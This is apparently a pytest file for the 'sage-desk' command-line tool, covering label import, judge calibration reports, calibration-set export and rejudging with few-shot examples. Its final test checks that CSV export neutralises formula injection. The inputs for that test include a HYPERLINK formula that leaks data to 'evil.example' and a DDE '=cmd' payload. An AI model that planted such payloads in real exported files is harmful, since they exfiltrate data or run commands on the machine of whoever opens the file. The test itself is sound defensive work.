"""`sage-desk label`, `calibration` and `export-calibration` end to end on a judged run."""

from __future__ import annotations

import json

import pytest
from calibration_data import HEURISTIC, fresh_store, human_says_pass, judge_script, judged_run_db

from sage_desk.cli import main


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    return judged_run_db(tmp_path_factory.mktemp("cli-calibration"))


@pytest.fixture
def db(template, tmp_path):
    store = fresh_store(template, tmp_path)
    url = str(store.url)
    store.close()
    return url


def labels_csv(db, tmp_path, criterion="judge.empathy", extra=""):
    from sage_desk.core.store import Store

    with Store(db) as store:
        convos = store.conversations(run_id=store.latest_run_id())
    rows = [f"{c.id},{criterion},{'pass' if human_says_pass(c) else 'fail'},reviewed,ana" for c in convos]
    path = tmp_path / "labels.csv"
    path.write_text("conversation,criterion,value,reason,author\n" + "\n".join(rows) + "\n" + extra, encoding="utf-8")
    return path, len(rows)


def test_label_then_calibration_json_and_table(db, tmp_path, capsys):
    path, n = labels_csv(db, tmp_path)
    assert main(["label", "--db", db, "--from", str(path)]) == 0
    assert capsys.readouterr().out.strip().startswith(f"imported {n} label(s) into run r-")
    assert main(["calibration", "--db", db, "--format", "json"]) == 0
    data = json.loads(capsys.readouterr().out)
    (row,) = data["criteria"]
    assert (row["source"], row["criterion"], row["n"]) == (HEURISTIC, "judge.empathy", n)
    c = row["confusion"]
    assert c["tp"] + c["fp"] + c["fn"] + c["tn"] == n and len(data["disagreements"]) == c["fp"] + c["fn"]
    assert main(["calibration", "--db", db]) == 0
    out = capsys.readouterr().out
    assert "baseline:heuristic vs human labels" in out and "judge.empathy" in out
    assert f"{c['fp'] + c['fn']} disagreement(s)" in out


def test_a_bad_label_file_imports_nothing_and_names_the_line(db, tmp_path, capsys):
    path, n = labels_csv(db, tmp_path, extra="nope,judge.empathy,pass,,ana\n")
    assert main(["label", "--db", db, "--from", str(path)]) == 1
    captured = capsys.readouterr()
    assert f"{path}:{n + 2}:1: no conversation 'nope'" in captured.out
    assert "nothing imported" in captured.err
    assert main(["calibration", "--db", db, "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["labels"] == 0


def test_no_labels_says_how_to_get_them(db, capsys):
    assert main(["calibration", "--db", db]) == 0
    out = capsys.readouterr().out
    assert "No human labels" in out and "sage-desk label" in out and "Review" in out


def test_export_calibration_jsonl_and_csv(db, tmp_path, capsys):
    path, n = labels_csv(db, tmp_path)
    assert main(["label", "--db", db, "--from", str(path)]) == 0
    out = tmp_path / "set.jsonl"
    assert main(["export-calibration", "--db", db, "--out", str(out)]) == 0
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(records) == n and {r["split"] for r in records} <= {"train", "dev", "test"}
    assert main(["export-calibration", "--db", db, "--out", str(tmp_path / "set.csv")]) == 0  # format from the extension
    assert (tmp_path / "set.csv").read_text().startswith("id,conversation_id,")
    assert "(csv)" in capsys.readouterr().err


def test_calibrate_from_the_command_line(db, tmp_path, capsys, fake_openai, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")  # the fake server takes any key; the SDK wants one
    fake_openai.script = judge_script
    path, _ = labels_csv(db, tmp_path)
    assert main(["label", "--db", db, "--from", str(path)]) == 0
    capsys.readouterr()
    code = main(
        ["calibration", "--db", db, "--format", "json", "--calibrate", "openai/fake-judge", "--api-base", fake_openai.base_url]
    )
    assert code == 0
    result = json.loads(capsys.readouterr().out)["calibration"]
    assert result["overall"]["after"]["accuracy"] == 1.0 and result["overall"]["before"]["accuracy"] < 1.0
    assert result["before_from"] == "rejudged" and len(result["examples"]) == 4
    assert main(["calibration", "--db", db, "--calibrate", "baseline:heuristic"]) == 1
    assert "no prompt, so few-shot examples cannot change it" in capsys.readouterr().err


def test_rejudge_calibrated_puts_the_saved_examples_in_the_judge_prompt(db, tmp_path, capsys, fake_openai, monkeypatch):
    from sage_desk.core.judge.llm_judge import EXAMPLES_HEADER

    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    fake_openai.script = judge_script
    base = ["--db", db, "--judge", "openai/fake-judge", "--api-base", fake_openai.base_url]
    assert main(["rejudge", *base, "--calibrated"]) == 1  # nothing calibrated yet: says so, judges nothing
    assert "no saved calibration examples for northline" in capsys.readouterr().err
    assert not fake_openai.requests

    path, _ = labels_csv(db, tmp_path)
    assert main(["label", "--db", db, "--from", str(path)]) == 0
    assert main(["calibration", "--db", db, "--calibrate", "openai/fake-judge", "--api-base", fake_openai.base_url]) == 0
    capsys.readouterr()
    fake_openai.requests.clear()

    assert main(["rejudge", *base, "--calibrated"]) == 0
    assert "and 4 calibration example(s)" in capsys.readouterr().err
    prompts = [m["content"] for r in fake_openai.requests for m in r["messages"] if m["role"] == "user"]
    assert len(prompts) == 40 and all(EXAMPLES_HEADER in p and p.count("Example ") >= 4 for p in prompts)

    fake_openai.requests.clear()
    assert main(["rejudge", *base]) == 0  # without the flag, the plain prompt
    assert not any(EXAMPLES_HEADER in m["content"] for r in fake_openai.requests for m in r["messages"])


@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1"])
def test_export_calibration_csv_neutralises_cells_that_start_like_a_formula(db, tmp_path, reason):
    import csv

    from sage_desk.core.store import Store

    with Store(db) as store:
        first = store.conversations(run_id=store.latest_run_id())[0]
        store.add_override(first.id, "judge.empathy", HEURISTIC, human_passed=False, reason=reason, author="=cmd|' /C calc'!A0")
    out = tmp_path / "set.csv"
    assert main(["export-calibration", "--db", db, "--out", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["human_reason"] == "'" + reason and row["human_author"] == "'=cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
